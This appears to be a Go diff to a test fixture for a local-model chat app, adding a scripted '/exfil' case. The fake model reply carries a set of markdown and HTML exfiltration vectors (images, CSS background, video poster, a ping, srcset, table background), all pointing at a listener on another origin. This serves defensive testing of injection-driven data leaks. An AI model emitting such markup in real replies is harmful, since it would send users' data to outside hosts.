@@ -36,7 +36,19 @@ const (
 	rememberStart = "/remember "
 	forgetStart   = "/forget "
 	longPrompt    = "/long write out my whole plan"
+	exfilStart    = "/exfil "
 )
+
+// exfilReply is what a reply steered by a document could hold to send what
+// the model read off the laptop as the page draws it (the outside attack
+// run's exfil.sh): every vector points at base, a listener of the case's on
+// another origin.
+func exfilReply(base string) string {
+	return "Here is your answer. ![status](" + base + "/leak?code=4471-ALPHA) <img src=\"" + base + "/leak2?code=4471\"> " +
+		"[click](" + base + "/leak3) <span style=\"background-image:url(" + base + "/leak4?css)\">x</span> " +
+		"<video poster=\"" + base + "/leak5\"></video> <a href=\"" + base + "/leak6\" ping=\"" + base + "/leak7\">p</a> " +
+		"<img srcset=\"" + base + "/leak8 2x\"> <table background=\"" + base + "/leak9\"><tr><td>t</td></tr></table> That is all."
+}
 
 // todoText is what askPrompt's create_note writes; planItems what
 // planPrompt's update_todos sends; unsure what unsurePrompt reports.
@@ -101,7 +113,7 @@ type fixtures struct {
 func prompts() map[string]string {
 	return map[string]string{"fail": failPrompt, "slow": slowPrompt, "stream": streamPrompt, "tool": toolPrompt, "ask": askPrompt, "plan": planPrompt,
 		"unsure": unsurePrompt, "move": movePrompt, "compact": compactPrompt, "cite": citePrompt, "remember": rememberStart, "citeReply": citeReply,
-		"planReminder": planReminder, "planLater": planLater, "forget": forgetStart, "long": longPrompt}
+		"planReminder": planReminder, "planLater": planLater, "forget": forgetStart, "long": longPrompt, "exfil": exfilStart}
 }
 
 // run is what a request says about the run a script answers: the prompt
@@ -216,6 +228,10 @@ var scripts = []script{
 		}
 		return "Forgotten."
 	})},
+	// The exfil case: the reply the prompt's address gets.
+	{func(t string) bool { return strings.HasPrefix(t, exfilStart) }, func(r run) ollamatest.Turn {
+		return say(exfilReply(strings.TrimPrefix(r.opener, exfilStart)))
+	}},
 	{is(longPrompt), twoSteps(fixed(call("create_note", map[string]any{"path": "long-plan.md", "content": longText})), func(r run) string {
 		if refused(r) {
 			return "All right, I wrote nothing."
